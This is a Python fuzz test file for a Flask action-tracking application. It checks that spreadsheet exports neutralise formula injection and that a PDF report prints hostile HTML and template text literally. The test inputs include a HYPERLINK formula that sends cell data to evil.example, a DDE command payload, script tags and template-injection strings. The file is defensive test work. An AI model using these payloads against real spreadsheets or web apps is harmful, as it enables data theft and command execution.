"""Hostile text saved through the forms comes out harmless: spreadsheet cells that
would run as formulas are neutralised, and the Panel PDF prints the text literally."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from pypdf import PdfReader

from tests.factories import london_today, make_meeting
from tests.fuzz.conftest import FUZZ
from tracker.actions.models import Action
from tracker.db import db
from tracker.exports import ACTION_COLUMNS, OPCC_ONLY_COLUMNS, readable_heading

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

FORMULAS = st.one_of(
    st.sampled_from(
        [
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "=1+1<script>",
            " =still a formula after trimming",
        ]
    ),
    st.builds(
        lambda start, rest: start + rest,
        st.sampled_from("=+-@"),
        st.text(
            alphabet=st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]), max_size=80
        ),
    ),
)


def parts(day) -> list[str]:
    return [str(day.day), str(day.month), str(day.year)]


def csv_rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_rows(body: bytes) -> list[dict[str, object]]:
    sheet = load_workbook(io.BytesIO(body)).active
    rows = list(sheet.iter_rows(values_only=True))
    header = [str(h) for h in rows[0]]
    return [dict(zip(header, row, strict=False)) for row in rows[1:]]


def readable_xlsx_rows(body: bytes) -> list[dict[str, object]]:
    """The readable workbook's rows, keyed by column name rather than heading."""
    columns = {readable_heading(c): c for c in ACTION_COLUMNS + OPCC_ONLY_COLUMNS}
    return [{columns[h]: v for h, v in row.items()} for row in xlsx_rows(body)]


def assert_neutral(value: object, saved: str) -> None:
    """A cell never starts like a formula; a saved formula-like text gains a quote."""
    text = "" if value is None else str(value)
    assert not text.startswith(FORMULA_STARTS), f"formula left live: {text[:60]!r}"
    if saved.startswith(FORMULA_STARTS):
        assert text == "'" + saved
    else:
        assert text == saved


@FUZZ
@given(title=FORMULAS, lead_role=FORMULAS, description=FORMULAS)
def test_action_exports_neutralise_formulas(
    app, officer, liaison, poster, title, lead_role, description
):
    poster.sign_in(officer)
    meeting = make_meeting(app)
    url = f"/actions/new/meeting/{meeting.id}"
    poster.refresh_token(url)
    today = london_today()
    response = poster.post(
        url,
        {
            "title": title,
            "description": description,
            "owner": str(liaison.id),
            "owning_organisation": "force",
            "lead_role": lead_role,
            "raised_on": parts(today - timedelta(days=3)),
            "due_on": parts(today + timedelta(days=30)),
            "marking": "official",
        },
    )
    assert response.status_code == 302, "a formula-like text is still a valid title"
    action_id = int(response.headers["Location"].rsplit("/", 1)[-1])
    page = poster.client.get(f"/actions/{action_id}").get_data(as_text=True)
    assert "=1+1<script>" not in page
    with app.app_context():
        reference = db.session.get(Action, action_id).reference
        db.session.remove()

    saved = {
        "title": title.strip(),
        "lead_role": lead_role.strip(),
        "description": description.strip(),
    }
    for url, read in (
        ("/actions/export.csv", csv_rows),
        ("/actions/export.xlsx?format=import", xlsx_rows),
        ("/actions/export.xlsx", readable_xlsx_rows),
    ):
        export = poster.client.get(url)
        assert export.status_code == 200
        rows = [r for r in read(export.data) if r["reference"] == reference]
        assert len(rows) == 1, f"saved action not in {url}"
        for column, text in saved.items():
            assert_neutral(rows[0][column], text)


@FUZZ
@given(text=FORMULAS)
def test_source_exports_neutralise_formulas(app, officer, poster, text):
    poster.sign_in(officer)
    poster.refresh_token("/panel/new")
    response = poster.post(
        "/panel/new",
        {
            "panel_meeting_on": ["27", "7", "2023"],
            "kind": "recommendation",
            "response_due_on": ["24", "8", "2023"],
            "text": text,
            "agenda_item": text[:200],
            "published": "y",
        },
    )
    assert response.status_code == 302
    for fmt, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
        export = poster.client.get(f"/reports/export/panel_items.{fmt}")
        assert export.status_code == 200
        rows = read(export.data)
        assert rows
        for row in rows:
            for value in row.values():
                if isinstance(value, str):
                    assert not value.startswith(FORMULA_STARTS), value[:60]


def pdf_text(data: bytes) -> str:
    reader = PdfReader(io.BytesIO(data))
    return "".join("".join(page.extract_text().split()) for page in reader.pages)


HOSTILE_PANEL_TEXTS = [
    "<b>Bold?</b> <i>no</i> <script>alert('pdf')</script> & &amp; done",
    '<img src="http://127.0.0.1:9/x.png"> <link rel=stylesheet href="http://127.0.0.1:9/s.css">',
    "<style>body{display:none}</style>Visible text stays",
    "{{ config }} {% if 1 %}jinja{% endif %} ${7*7}",
]


def test_panel_pdf_prints_hostile_text_literally(app, officer, poster):
    poster.sign_in(officer)
    poster.refresh_token("/panel/new")
    for text in HOSTILE_PANEL_TEXTS:
        response = poster.post(
            "/panel/new",
            {
                "panel_meeting_on": ["27", "7", "2023"],
                "kind": "recommendation",
                "response_due_on": ["24", "8", "2023"],
                "text": text,
                "agenda_item": text[:60],
                "published": "y",
            },
        )
        assert response.status_code == 302, text
    pdf = poster.client.get("/reports/panel.pdf")
    assert pdf.status_code == 200
    assert pdf.mimetype == "application/pdf"
    printed = pdf_text(pdf.data)
    for text in HOSTILE_PANEL_TEXTS:
        assert "".join(text.split()) in printed, f"{text!r} not printed literally"
    preview = poster.client.get("/reports/panel").get_data(as_text=True)
    assert "<script>alert('pdf')</script>" not in preview
    assert "<style>body{display:none}</style>" not in preview
